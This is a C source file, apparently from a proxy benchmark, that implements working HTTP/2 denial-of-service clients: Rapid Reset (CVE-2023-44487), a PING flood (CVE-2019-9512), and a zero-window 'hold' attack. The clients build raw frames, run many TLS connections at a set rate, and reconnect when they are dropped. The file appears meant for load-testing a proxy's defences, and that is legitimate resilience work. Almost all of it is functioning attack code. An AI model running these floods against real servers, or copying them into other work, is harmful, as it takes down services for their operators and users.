/* attack.c - clients that mean harm, beside whom the bench looks at a well-behaved one.
 *   attack KIND PORT CONNECTIONS RATE SECONDS
 * Each connection does its harm RATE times a second, and comes again when it is thrown out:
 *   reset     a request, and its cancellation (CVE-2023-44487)
 *   ping      a PING frame (CVE-2019-9512)
 *   hold      as many requests as the proxy takes, of answers that its windows of 0 keep waiting
 * Prints what was done and how often a connection was lost. */
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "dial.h"

enum {
    ATTACK_HOLD_REQUESTS = 100,
    ATTACK_TURN_NS = 1000000,
    ATTACK_MAX = 1000,
    ATTACK_OUT_BYTES = 4096
};

enum attack_kind { ATTACK_RESET, ATTACK_PING, ATTACK_HOLD };
static const char *const attack_names[] = {"reset", "ping", "hold"};

struct attacker {
    int fd;
    SSL *ssl;
    bool shaken;
    uint32_t stream; /* of the next request */
    size_t unsent;
    uint8_t out[ATTACK_OUT_BYTES];
};

static struct {
    enum attack_kind kind;
    uint16_t port;
    SSL_CTX *tls;
    unsigned long done, lost;
} attack;

/* A frame's head; its payload follows. */
static size_t attack_frame(uint8_t *out, size_t length, uint8_t type, uint8_t flags,
                           uint32_t stream)
{
    const uint8_t head[] = {
        (uint8_t)(length >> 16),
        (uint8_t)(length >> 8),
        (uint8_t)length,
        type,
        flags,
        (uint8_t)(stream >> 24),
        (uint8_t)(stream >> 16),
        (uint8_t)(stream >> 8),
        (uint8_t)stream,
    };
    memcpy(out, head, sizeof(head));
    return sizeof(head);
}

static size_t attack_request(uint8_t *out, uint32_t stream)
{
    /* GET https://localhost/body/102400-0, all literals */
    static const char block[] = "\x82\x87\x01\x09localhost\x04\x0e/body/102400-0";
    size_t n = attack_frame(out, sizeof(block) - 1, 1, 0x5, stream);
    memcpy(out + n, block, sizeof(block) - 1);
    return n + sizeof(block) - 1;
}

static void attacker_open(struct attacker *a)
{
    a->fd = dial_socket(attack.port);
    a->ssl = dial_tls(attack.tls, a->fd);
    a->shaken = false;
    a->stream = 1;
    a->unsent = 0;
}

static void attacker_lose(struct attacker *a)
{
    SSL_free(a->ssl);
    close(a->fd);
    attack.lost++;
    attacker_open(a);
}

/* The preface, and windows of 0 for those who hold. */
static size_t attack_greeting(uint8_t *out)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    size_t n = sizeof(preface) - 1;
    memcpy(out, preface, n);
    if (attack.kind != ATTACK_HOLD)
        return n + attack_frame(out + n, 0, 4, 0, 0);
    n += attack_frame(out + n, 6, 4, 0, 0);
    memcpy(out + n, "\x00\x04\x00\x00\x00\x00", 6);
    return n + 6;
}

static size_t attack_once(struct attacker *a, uint8_t *out)
{
    size_t n = 0;
    switch (attack.kind) {
    case ATTACK_PING:
        n = attack_frame(out, 8, 6, 0, 0);
        memset(out + n, 0, 8);
        return n + 8;
    case ATTACK_RESET:
        n = attack_request(out, a->stream);
        n += attack_frame(out + n, 4, 3, 0, a->stream);
        memcpy(out + n, "\x00\x00\x00\x08", 4);
        a->stream += 2;
        return n + 4;
    case ATTACK_HOLD:
        if (a->stream > 2 * ATTACK_HOLD_REQUESTS)
            return 0;
        n = attack_request(out, a->stream);
        a->stream += 2;
        return n;
    }
    return 0;
}

/* False when the connection is over. */
static bool attacker_shake(struct attacker *a)
{
    uint8_t out[64];
    int done = SSL_do_handshake(a->ssl);
    if (done != 1) {
        int error = SSL_get_error(a->ssl, done);
        return error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE;
    }
    a->shaken = true;
    return SSL_write(a->ssl, out, (int)attack_greeting(out)) > 0;
}

static bool attacker_read(struct attacker *a)
{
    static char in[16 << 10];
    int n;
    do
        n = SSL_read(a->ssl, in, sizeof(in));
    while (n > 0);
    return SSL_get_error(a->ssl, n) == SSL_ERROR_WANT_READ;
}

/* Who is still busy with the last harm does no more this time. */
static bool attacker_act(struct attacker *a, unsigned times)
{
    if (!a->shaken)
        return attacker_shake(a);
    if (!attacker_read(a))
        return false;
    for (; times > 0 && a->unsent < ATTACK_OUT_BYTES / 2; times--) {
        size_t added = attack_once(a, a->out + a->unsent);
        a->unsent += added;
        attack.done += added > 0;
    }
    if (a->unsent == 0)
        return true;
    int taken = SSL_write(a->ssl, a->out, (int)a->unsent);
    if (taken <= 0)
        return SSL_get_error(a->ssl, taken) == SSL_ERROR_WANT_WRITE;
    a->unsent -= (size_t)taken;
    memmove(a->out, a->out + taken, a->unsent);
    return true;
}

static void attack_run(unsigned count, double rate, double seconds)
{
    static struct attacker attackers[ATTACK_MAX];
    uint64_t start = dial_now_ns();
    double owed = 0;
    for (unsigned i = 0; i < count; i++)
        attacker_open(&attackers[i]);
    for (uint64_t now = start; (double)(now - start) / 1e9 < seconds;) {
        owed += rate * ATTACK_TURN_NS / 1e9;
        unsigned times = (unsigned)owed;
        owed -= times;
        for (unsigned i = 0; i < count; i++)
            if (!attacker_act(&attackers[i], times))
                attacker_lose(&attackers[i]);
        now = dial_now_ns();
        uint64_t next = now - (now - start) % ATTACK_TURN_NS + ATTACK_TURN_NS;
        nanosleep(&(struct timespec){.tv_nsec = (long)(next - now)}, NULL);
    }
}

int main(int argc, char **argv)
{
    if (argc != 6)
        dial_die("usage: attack reset|ping|hold PORT CONNECTIONS RATE SECONDS");
    size_t kind = 0;
    while (kind < 3 && strcmp(argv[1], attack_names[kind]) != 0)
        kind++;
    unsigned long count = strtoul(argv[3], NULL, 10);
    if (kind == 3 || count > ATTACK_MAX)
        dial_die("no such attack: %s", argv[1]);
    attack.kind = (enum attack_kind)kind;
    attack.port = (uint16_t)strtoul(argv[2], NULL, 10);
    attack.tls = dial_context();
    dial_await(attack.port);
    attack_run((unsigned)count, strtod(argv[4], NULL), strtod(argv[5], NULL));
    printf("done=%lu lost=%lu\n", attack.done, attack.lost);
    return 0;
}
